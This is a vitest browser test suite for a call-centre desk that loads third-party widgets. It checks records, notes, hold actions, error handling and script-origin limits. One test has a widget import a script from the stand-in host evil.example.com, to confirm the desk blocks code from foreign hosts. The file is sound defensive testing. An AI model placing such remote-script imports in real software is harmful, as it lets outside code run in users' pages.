import { expect, test } from 'vitest';
import type { DeskLayout } from '#shared/contracts/desk/desk-look-up.ts';
import { hasBrowser, seriousFindings } from '../support/browser.ts';
import { button, deskPages, shoot } from '../support/desk-pages.ts';

const { server, context, openReady, openTalking } = deskPages();

type Widget = DeskLayout['widgets'][number];

const sample: Widget = {
  id: 'sample',
  title: 'Customer records',
  module: 'sample-widget.js',
  element: 'openline-sample',
  place: 'panel',
  attributes: { records: 'https://records.example.com/' },
};

const foreign = (name: string, place: Widget['place'] = 'panel'): Widget => ({
  id: name,
  title: `The ${name}`,
  module: `https://widgets.example.com/${name}.js`,
  element: `contoso-${name}`,
  place,
  attributes: {},
});

const lay = (...widgets: readonly Widget[]) => {
  server().world.layout = { columns: [], widgets: [...widgets] };
};

/** The customer's own host of widgets. */
async function serve(name: string, script: string, host = 'widgets.example.com') {
  await context().route(`https://${host}/${name}.js`, (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: script,
    }),
  );
}

test.runIf(hasBrowser)(
  'A1: a widget shows the customer while it rings, writes into the agent’s notes, and logs what came of the call',
  async () => {
    lay(sample);
    const page = await openReady();
    const panel = page.getByRole('region', { name: 'Customer records' });
    await panel.getByText('No customer').waitFor();
    await server().world.ring();
    await panel.getByText('Record C-125001').waitFor();
    await button(page, 'Accept').click();
    await server().world.change('dialogue-1', { phase: 'talk' });
    await button(page, 'Hold').waitFor();
    await button(page, 'Add to notes').click();
    const notes = page.getByRole('textbox', { name: 'Notes' });
    await expect.poll(() => notes.inputValue()).toBe('Record C-125001');
    const link = panel.getByRole('link', { name: 'Open' });
    expect(await link.getAttribute('href')).toBe('https://records.example.com/C-125001');
    await page.setViewportSize({ width: 1400, height: 900 });
    await shoot(page, 'widget');
    expect(await seriousFindings(page)).toEqual([]);
    await button(page, 'Hang up').click();
    await button(page, 'Finish').click();
    await panel.getByText('C-125001: Record C-125001').waitFor();
    await page.getByRole('heading', { name: 'You are ready' }).waitFor();
    expect(server().world.wrapUps.at(-1)?.notes).toBe('Record C-125001');
  },
);

test.runIf(hasBrowser)(
  'A1: a widget under the dialogue’s card stays the same from talk to wrap-up, and acts as the agent would',
  async () => {
    await serve(
      'card',
      `customElements.define('contoso-card', class extends HTMLElement {
        connectedCallback() {
          const id = this.getAttribute('dialogue');
          const heard = document.createElement('p');
          heard.textContent = 'version ' + this.desk.version;
          this.desk.on('dialogue', ({ phase, onHold }) => { heard.textContent += ' ' + phase + (onHold ? ' held' : ''); });
          const hold = document.createElement('button');
          hold.textContent = 'Hold by widget';
          hold.onclick = () => { heard.textContent += ' ' + JSON.stringify(this.desk.wish(id, { what: 'hold' })); };
          this.append(heard, hold);
        }
      });`,
    );
    lay(foreign('card', 'dialogue'));
    const page = await openTalking();
    const panel = page.getByRole('region', { name: 'The card' });
    await button(page, 'Hold by widget').click();
    await button(page, 'Resume').waitFor();
    await panel.getByText(/version 1\.0 .*\{"ok":true\} talk held$/).waitFor();
    await server().world.endCall('dialogue-1', 'customer');
    await panel.getByText(/version 1\.0 .*talk held wrapUp$/).waitFor();
    await button(page, 'Finish').click();
    await expect.poll(() => panel.count()).toBe(0);
  },
);

test.runIf(hasBrowser)(
  'A1: widgets that throw, do not come, or do not define what they should leave the desk as it is',
  async () => {
    await serve(
      'thrower',
      `customElements.define('contoso-thrower', class extends HTMLElement {
        connectedCallback() { throw new Error('its own'); }
      });`,
    );
    await serve('mute', 'export {};');
    await context().route('https://widgets.example.com/gone.js', (route) => route.abort());
    await context().clock.install();
    lay(foreign('thrower'), foreign('gone'), foreign('mute'), sample);
    const page = await openTalking();
    await page.getByText('“The thrower” does not work.').waitFor();
    await page.getByText('“The gone” could not be loaded.').waitFor();
    await page.getByText('Record C-125001').waitFor();
    await context().clock.fastForward(6_000);
    await page.getByText('“The mute” takes longer than usual').waitFor();
    await context().clock.fastForward(20_000);
    await page.getByText('“The mute” does not answer.').waitFor();
    await shoot(page, 'widgets-broken');
    await context().unroute('https://widgets.example.com/gone.js');
    await serve(
      'gone',
      "customElements.define('contoso-gone', class extends HTMLElement { connectedCallback() { this.textContent = 'Here again'; } });",
    );
    const panel = page.getByRole('region', { name: 'The gone' });
    await panel.getByRole('button', { name: 'Try again' }).click();
    await panel.getByText('Here again').waitFor();
    await button(page, 'Hang up').click();
    await button(page, 'Finish').waitFor();
  },
);

test.runIf(hasBrowser)(
  'A1: once widgets are loaded the page takes scripts from no other host than theirs',
  async () => {
    const elsewhere = "globalThis.harmed = true; customElements.define('contoso-x', HTMLElement);";
    await serve('elsewhere', elsewhere, 'evil.example.com');
    await serve(
      'loader',
      `customElements.define('contoso-loader', class extends HTMLElement {
        connectedCallback() {
          import('https://evil.example.com/elsewhere.js').then(
            () => { this.textContent = 'came'; },
            () => { this.textContent = 'did not come'; },
          );
        }
      });`,
    );
    lay(foreign('loader'));
    const page = await openReady();
    await page.getByText('did not come').waitFor();
    expect(await page.evaluate('globalThis.harmed')).toBeUndefined();
  },
);

test.runIf(hasBrowser)(
  'A1: a desk without widgets has no panel for them and asks nobody for scripts',
  async () => {
    const page = await openTalking();
    const titles = await page.locator('main').getByRole('heading', { level: 2 }).allTextContents();
    expect(titles).toEqual(['Customer', 'History']);
  },
);
